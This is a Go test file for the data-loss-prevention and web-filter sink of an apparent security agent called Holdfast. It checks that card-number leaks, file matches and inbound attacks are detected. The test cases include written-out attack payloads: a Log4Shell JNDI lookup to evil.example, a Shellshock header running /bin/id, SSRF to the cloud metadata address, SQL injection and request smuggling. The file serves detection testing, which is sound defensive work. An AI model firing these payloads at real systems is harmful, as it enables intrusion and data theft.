// SPDX-License-Identifier: Apache-2.0

package dlp_test

import (
	"bytes"
	"fmt"
	"hash/maphash"
	"net/netip"
	"regexp"
	"slices"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/agent/dlp"
	"github.com/holdfast-project/holdfast/agent/inspect"
	rules "github.com/holdfast-project/holdfast/rules/dlp"
	"github.com/holdfast-project/holdfast/rules/waf"
)

// cards finds sixteen digits in one go: a detector of one expression, which does without a set of them.
type cards struct {
	text []byte
	seed maphash.Seed
}

var sixteen = regexp.MustCompile(`\b4\d{15}\b`)

func (c *cards) Reset([]byte)                          { c.text = c.text[:0] }
func (c *cards) Write(part []byte, _ func(*dlp.Value)) { c.text = append(c.text, part...) }
func (c *cards) Close(found func(*dlp.Value)) {
	for _, m := range sixteen.FindAll(c.text, -1) {
		found(&dlp.Value{Hash: maphash.Bytes(c.seed, m), Confidence: 90, Masked: append(append([]byte(nil), m[:6]...), "******"...)})
	}
}

// node is the world of a sink: one server, one client.
type node struct{}

func (node) Party(tag uint64) (dlp.Party, bool) {
	switch tag {
	case 1:
		return dlp.Party{Process: process("20"), Executable: "/usr/sbin/nginx", Workload: "shop/web", Lineage: 77, DLP: true, WAF: true}, true
	case 2:
		return dlp.Party{Process: process("30"), Executable: "/usr/bin/curl", Workload: "shop/job", Lineage: 88, DLP: true}, true
	}
	return dlp.Party{}, false
}

func (node) Peer(c *inspect.Context) dlp.Peer { return dlp.Peer{Addr: c.Remote, Host: string(c.Host)} }

// rig is an inspector and a sink behind it.
type rig struct {
	in       *inspect.Inspector
	sink     *dlp.Sink
	attacks  *dlp.Attacks
	prints   *dlp.Prints
	findings []dlp.Finding
	now      int64
	cookie   uint64
}

func newRig(t *testing.T) *rig {
	t.Helper()
	filter, err := waf.Compile(waf.Config{})
	if err != nil {
		t.Fatal(err)
	}
	r := &rig{attacks: dlp.NewAttacks(dlp.AttacksConfig{}), prints: dlp.NewPrints(dlp.PrintsConfig{}, 77), now: int64(time.Hour)}
	seed := maphash.MakeSeed()
	r.sink = dlp.NewSink(dlp.SinkConfig{
		World: node{}, Filter: filter, Attacks: r.attacks, Prints: r.prints, Tunnels: dlp.NewTunnels(dlp.TunnelConfig{}),
		Counter:  dlp.NewCounter(dlp.CounterConfig{Detectors: []dlp.Detector{{ID: "card", Class: "card", Severity: dlp.High, Threshold: dlp.Threshold{Count: 5, Distinct: 5}}}}),
		Streams:  func() dlp.Stream { return &cards{seed: seed} },
		Findings: func(f *dlp.Finding) { r.findings = append(r.findings, *f) },
	})
	if r.in, err = inspect.New(inspect.Config{}, r.sink); err != nil {
		t.Fatal(err)
	}
	return r
}

// say gives bytes of a connection of its own, in parts.
func (r *rig) say(tag uint64, dir inspect.Dir, inbound bool, data []byte) {
	r.cookie++
	r.now += int64(time.Millisecond)
	for len(data) > 0 {
		n := min(len(data), 1000)
		r.in.Piece(&inspect.Piece{
			Key: inspect.Key{Cookie: r.cookie}, Dir: dir, Inbound: inbound, Protocol: inspect.ProtocolTCP, LocalPort: 40000, RemotePort: 80,
			Remote: netip.MustParseAddr("203.0.113.5"), Time: r.now, Tag: tag, Data: data[:n],
		})
		data = data[n:]
	}
	r.in.Closed(inspect.Key{Cookie: r.cookie})
}

func (r *rig) reasons() string {
	var b bytes.Buffer
	for i := range r.findings {
		fmt.Fprintf(&b, "%s:%s ", r.findings[i].Reason, r.findings[i].Detector)
	}
	r.findings = r.findings[:0]
	return b.String()
}

func post(host, contentType string, body []byte) []byte {
	return append(fmt.Appendf(nil, "POST /x?id=5 HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", host, contentType, len(body)), body...)
}

// TestSink puts bytes of connections through an inspector: what goes out is counted, files are recognised, requests that
// come in are judged, and nothing else is.
func TestSink(t *testing.T) {
	r := newRig(t)
	leak := []byte("n,card\n")
	for i := range 6 {
		leak = fmt.Appendf(leak, "%d,4%015d\n", i, i*7)
	}
	file := content(3, 6000)
	r.prints.Read(dlp.Read{File: "/data/customers.csv", Label: "customers"}, file)
	for _, c := range []struct {
		name    string
		tag     uint64
		dir     inspect.Dir
		inbound bool
		data    []byte
		want    string
	}{
		{"cards of a client", 2, inspect.Out, false, post("evil.example", "text/csv", leak), "content:card "},
		{"the same of nobody", 9, inspect.Out, false, post("other.example", "text/csv", leak), ""},
		{"cards that come in", 2, inspect.In, false, post("web", "text/csv", leak), ""},
		{"a file", 2, inspect.Out, false, post("evil2.example", "application/octet-stream", file), "file-match: "},
		{"another file", 2, inspect.Out, false, post("evil2.example", "application/octet-stream", content(4, 6000)), ""},
		{"an attack in the target", 1, inspect.In, true, []byte("GET /a?q=%24%7Bjndi:ldap://evil.example/a%7D HTTP/1.1\r\nHost: web\r\n\r\n"), "attack:log4shell-jndi "},
		{"an attack in a header", 1, inspect.In, true, []byte("GET /a HTTP/1.1\r\nHost: web\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n"), "attack:shellshock "},
		{"an attack in JSON", 1, inspect.In, true, post("web", "application/json", []byte(`{"u":"http://169.254.169.254/latest/"}`)), "attack:ssrf-metadata "},
		{"an attack in a form", 1, inspect.In, true, post("web", "application/x-www-form-urlencoded", []byte("a=b&n=1'+or+'1'%3d'1")), "attack:sql-condition "},
		{"two framings", 1, inspect.In, true, []byte("POST /a HTTP/1.1\r\nHost: web\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"), "attack:smuggling-both "},
		{"an attack on a client", 2, inspect.In, true, []byte("GET /a?q=%24%7Bjndi:ldap://evil.example/a%7D HTTP/1.1\r\nHost: web\r\n\r\n"), ""},
		{"an attack by a client", 1, inspect.Out, false, []byte("GET /a?q=%24%7Bjndi:ldap://evil.example/a%7D HTTP/1.1\r\nHost: web\r\n\r\n"), ""},
		{"ordinary", 1, inspect.In, true, post("web", "application/json", []byte(`{"name":"O'Brien","note":"select one from the list; 5 or 6"}`)), ""},
	} {
		r.say(c.tag, c.dir, c.inbound, c.data)
		if got := r.reasons(); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
	followed := r.attacks.Behaved(nil, &dlp.Behaviour{Time: r.now, Lineage: 77, What: "exec", Object: "/bin/sh"})
	if len(followed) != 1 || followed[0].Join != 77 {
		t.Errorf("new behaviour after attacks: %+v", followed)
	}
	if s := r.sink.Stats(); s.Unknown == 0 || s.Texts == 0 || s.Evicted != 0 {
		t.Errorf("stats %+v", s)
	}
}

// TestMatcher puts the detectors that come with Holdfast behind the sink: one card is a checkout, many are a finding.
func TestMatcher(t *testing.T) {
	set, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	m, err := set.Compile(rules.CompileConfig{Key: [32]byte{1, 2, 3}})
	if err != nil {
		t.Fatal(err)
	}
	r := newRig(t)
	r.sink = dlp.NewSink(dlp.SinkConfig{
		World: node{}, Counter: dlp.NewCounter(dlp.CounterConfig{Detectors: dlp.Detectors(m)}), Streams: dlp.Matching(m),
		Findings: func(f *dlp.Finding) { r.findings = append(r.findings, *f) },
	})
	if r.in, err = inspect.New(inspect.Config{}, r.sink); err != nil {
		t.Fatal(err)
	}
	r.say(2, inspect.Out, false, post("shop.example", "application/json", []byte(`{"card number":"4111111111111111"}`)))
	if got := r.reasons(); got != "" {
		t.Errorf("one card: %s", got)
	}
	list := []byte("card number,expires\n")
	for i := range 200 {
		list = fmt.Appendf(list, "%s,12/29\n", luhn(fmt.Sprintf("411111%09d", i*7919)))
	}
	r.say(2, inspect.Out, false, post("evil.example", "text/csv", list))
	found := 0
	for _, f := range r.findings {
		if f.Class == "card" {
			found++
			if len(f.Masked) == 0 || bytes.Contains([]byte(fmt.Sprint(f)), []byte("411111000007919")) || f.Peer.Host != "evil.example" {
				t.Errorf("finding %+v", f)
			}
		}
	}
	if found != 1 {
		t.Errorf("two hundred cards: %d findings: %s", found, r.reasons())
	}
}

// luhn appends the check digit.
func luhn(digits string) string {
	sum := 0
	for i := range len(digits) {
		d := int(digits[len(digits)-1-i] - '0')
		if i%2 == 0 {
			if d *= 2; d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return digits + fmt.Sprint((10-sum%10)%10)
}

// TestTextsMakeRoom opens more texts than are looked at at a time: those that were idle longest make room, what was found in
// them is told with where it was, and those that go on are looked through to their end.
func TestTextsMakeRoom(t *testing.T) {
	filter, err := waf.Compile(waf.Config{})
	if err != nil {
		t.Fatal(err)
	}
	var found []string
	var sink *dlp.Sink
	seed := maphash.MakeSeed()
	prints := dlp.NewPrints(dlp.PrintsConfig{Streams: 4}, 0x1234567)
	if !prints.Read(dlp.Read{File: "/data/customers.csv"}, content(1, 16<<10)) {
		t.Fatal("the file was not remembered")
	}
	sink = dlp.NewSink(dlp.SinkConfig{
		World: node{}, Filter: filter, Attacks: dlp.NewAttacks(dlp.AttacksConfig{}), Prints: prints, Texts: 4,
		Counter:  dlp.NewCounter(dlp.CounterConfig{Detectors: []dlp.Detector{{ID: "card", Class: "card"}}}),
		Streams:  func() dlp.Stream { return &cards{seed: seed} },
		Findings: func(f *dlp.Finding) { found = append(found, f.Class+" "+string(sink.At().Path)) },
	})
	texts := make([]inspect.Context, 12)
	give := func(i int, text string, last bool) { sink.Text(&texts[i], []byte(text), last) }
	for i := range texts {
		texts[i] = inspect.Context{Tag: 1, TextID: uint64(i + 1), Protocol: inspect.HTTP1, Part: inspect.Body, Path: []byte{'/', byte('a' + i)}, Host: []byte{byte('a' + i)}}
		texts[i].Remote = netip.AddrPortFrom(netip.AddrFrom4([4]byte{192, 0, 2, byte(i)}), 80)
		if i%2 == 1 {
			texts[i].Dir, texts[i].Inbound = inspect.In, true
		}
	}
	give(0, "4111111111111111 ", false)
	give(1, "${jndi:ldap://e/a}", false)
	for i := 2; i < len(texts); i++ {
		give(i, "text ", false)
		give(2, "4111111111111111 ", false)
	}
	give(2, "4222222222222222", true)
	for i := range texts {
		if i != 2 {
			give(i, "4333333333333333 ${jndi:ldap://e/b}", true)
		}
	}
	want := []string{"card /a", "log4shell /b", "card /c"}
	// The last three are open still when they end.
	for i := 9; i < 12; i++ {
		want = append(want, map[bool]string{true: "log4shell", false: "card"}[i%2 == 1]+" /"+string(rune('a'+i)))
	}
	slices.Sort(want)
	slices.Sort(found)
	if !slices.Equal(slices.Compact(found), want) {
		t.Errorf("found %q, want %q", found, want)
	}
	if s := sink.Stats(); s.Evicted != 8 || s.Texts != 12 {
		t.Errorf("stats %+v", s)
	}
	if s := prints.Stats(); s.Evicted != 0 {
		t.Errorf("texts that made room are followed: %+v", s)
	}
	for i := range texts {
		if texts[i].State != nil {
			t.Errorf("text %d is not over", i)
		}
	}
}
